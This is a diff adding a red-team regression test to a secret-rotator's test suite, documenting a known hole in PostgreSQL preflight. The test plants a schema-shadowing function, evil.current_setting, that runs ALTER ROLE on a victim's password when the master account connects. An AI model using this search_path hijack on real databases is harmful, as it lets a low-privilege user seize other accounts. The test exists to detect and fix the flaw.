@@ -414,6 +414,49 @@ END $fn$`);
     expect(await db.canLogin(victim.username, 'owned-by-the-writer')).toBe(false);
     await expectUntouched(victim, before);
   });
+
+  // HOLE: the same search_path attack through preflight (`rotor preflight`, the CLI's checks before
+  // attach), which an operator runs on the writer's secret: preflightAlternating logs the master in
+  // to the rotated secret's dbname with no proof of anything (rotators/postgres/rotator.ts
+  // masterLogin, then MASTER_RIGHTS_SQL's unqualified current_setting / pg_has_role / pg_roles).
+  // Fix as above.
+  it.fails("preflight (run by an operator) does not run the writer's function as the master: the victim's password stays unchanged", async () => {
+    // Prepare
+    const victim = await user('rt_pre_victim');
+    const before = await db.snapshot(String(victim.username));
+    const writer = await user('rt_pre_writer', { masterarn: MASTER_ARN });
+    const database = uniqueName('rt_pre_db');
+    await db.sql(
+      `CREATE DATABASE ${pg.escapeIdentifier(database)} OWNER ${pg.escapeIdentifier(String(writer.username))}`,
+    );
+    const own = new pg.Client({
+      host: String(writer.host),
+      port: Number(writer.port),
+      user: String(writer.username),
+      password: String(writer.password),
+      database,
+    });
+    await own.connect();
+    await own.query('CREATE SCHEMA evil');
+    await own.query('GRANT USAGE ON SCHEMA evil TO PUBLIC');
+    await own.query(`CREATE FUNCTION evil.current_setting(text) RETURNS text LANGUAGE plpgsql AS $fn$
+BEGIN
+  BEGIN
+    EXECUTE pg_catalog.format('ALTER ROLE %I PASSWORD %L', ${pg.escapeLiteral(String(victim.username))}, 'owned-by-the-writer');
+  EXCEPTION WHEN OTHERS THEN NULL;
+  END;
+  RETURN pg_catalog.current_setting($1);
+END $fn$`);
+    await own.query(`ALTER DATABASE ${pg.escapeIdentifier(database)} SET search_path = evil, pg_catalog`);
+    await own.end();
+    // Act: the operator's preflight of the writer's secret.
+    await failure(
+      postgresRotator.preflight({ ...request('setSecret'), current: parse({ ...writer, dbname: database }) }),
+    );
+    // Assess
+    expect(await db.canLogin(victim.username, 'owned-by-the-writer')).toBe(false);
+    await expectUntouched(victim, before);
+  });
 });
 
 describe.skipIf(skipMysql)("MariaDB red team (the machine's MariaDB)", () => {
